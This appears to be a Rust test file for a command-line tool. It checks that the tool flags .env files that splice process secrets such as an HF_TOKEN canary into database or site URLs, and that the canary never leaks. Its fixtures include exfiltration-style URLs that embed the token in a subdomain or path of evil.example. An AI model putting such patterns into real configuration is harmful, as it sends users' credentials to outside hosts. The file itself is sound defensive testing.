//! A `.env` file that puts variables of the process environment into a URL.

use crate::support::Folder;
use crate::support::foreign::Foreign;

use super::KEY;

/// A variable of the process environment that must not leak.
const CANARY: &str = "hf_Canary0123456789Borrowed";

/// A folder with this `.env`, whose commands have a token in their environment.
fn folder(env: &str) -> Folder {
    let mut folder = Folder::with_env(env);
    folder.variable("HF_TOKEN", CANARY);
    folder
}

#[test]
fn process_variables_in_a_database_url_need_confirmation() {
    for (env, line) in [
        (
            "DATABASE_URL=postgresql://x:${HF_TOKEN}@db.invalid/people\n",
            1,
        ),
        (
            "DATABASE_URL=postgresql://x:${MISSING:-y}${HF_TOKEN:-z}@db.invalid/people\n",
            1,
        ),
        // Through another line, also one that the process environment overrides.
        (
            "A=${HF_TOKEN}\nB=x${A}\nNEON_DATABASE_URL=postgresql://${B}@db.invalid/people\n",
            3,
        ),
        (
            "HF_TOKEN=mine\nDATABASE_URL=postgresql://x:${HF_TOKEN}@db.invalid/people\n",
            2,
        ),
        (
            "DATABASE_URL=postgresql://x:${HF_TOKEN}@localhost/people?hostaddr=203.0.113.7\n",
            1,
        ),
        (
            "DATABASE_URL=postgresql://x:${HF_TOKEN}@localhost/people?host=localhost&host=db.invalid:6543\n",
            1,
        ),
    ] {
        let folder = folder(env);
        for command in [
            &["verify-connection"][..],
            &["list-users"],
            &["init-db", "--dry-run"],
            &["doctor", "--only", "database"],
        ] {
            let run = folder
                .run(command.iter().chain(&["--json"]).copied())
                .code(3);
            assert_eq!(run.ids("fail"), ["trust.unconfirmed"], "{env}: {run:#?}");
            assert_eq!(run.json()["findings"][0]["source"]["line"], line, "{env}");
            assert!(!format!("{run:?}").contains(CANARY), "{run:?}");
        }
    }
}

#[test]
fn a_database_url_without_process_variables_needs_no_confirmation() {
    for (env, trusted) in [
        // The usual parts, all in one file.
        (
            "DB_USER=anna\nDB_PASSWORD=pw\nDATABASE_URL=postgresql://${DB_USER}:${DB_PASSWORD}@db.invalid/people\n",
            None,
        ),
        (
            "DATABASE_URL=postgresql://x:${MISSING:-y}@db.invalid/people\n",
            None,
        ),
        (
            "DATABASE_URL=postgresql://x:${HF_TOKEN}@db.invalid/people\n",
            Some("db.invalid"),
        ),
        (
            "DATABASE_URL=postgresql://x:${HF_TOKEN}@db.invalid:6543/people\n",
            Some("db.invalid:6543"),
        ),
    ] {
        let folder = folder(env);
        let option = trusted.map(|host| ["--trust-host", host]);
        let arguments = ["verify-connection", "--json", "--timeout", "5s"];
        let run = folder
            .run(arguments.into_iter().chain(option.into_iter().flatten()))
            .code(5);
        assert_ne!(run.ids("fail"), ["trust.unconfirmed"], "{env}: {run:#?}");
    }
    // A database on this machine gets it, such as one in a container.
    let folder = folder("DATABASE_URL=postgresql://x:${HF_TOKEN}@127.0.0.1:1/people\n");
    let _ = folder.run(["verify-connection", "--json"]).code(5);
}

#[test]
fn a_site_url_must_not_contain_process_variables() {
    let foreign = Foreign::start();
    for (url, id) in [
        ("https://${HF_TOKEN}.evil.example", "trust.borrowed-host"),
        ("https://evil.example/${HF_TOKEN}", "trust.unconfirmed"),
    ] {
        for file in [".env", ".env.production"] {
            let mut folder = folder("");
            folder.write(file, format!("JWT_SECRET_KEY={KEY}\nFRONTEND_URL={url}\n"));
            foreign.lead(&mut folder);
            let command = ["check-env", "--online", "--only", "live", "--json"];
            let run = folder.run(command).code(3);
            assert_eq!(run.ids("fail"), [id], "{run:#?}");
            let named = id == "trust.unconfirmed";
            let text = format!("{run:?}").to_lowercase();
            assert!(!text.contains(&CANARY.to_lowercase()), "{text}");
            assert_eq!(text.contains("evil.example"), named, "{text}");
            assert_eq!(foreign.take(), "", "{url}");
            let host = format!("{}.evil.example", CANARY.to_lowercase());
            let host = if named { "evil.example" } else { &host };
            let _ = folder.run(command.into_iter().chain(["--trust-host", host]));
            assert!(foreign.take().contains("evil.example"), "{url}");
        }
    }
}
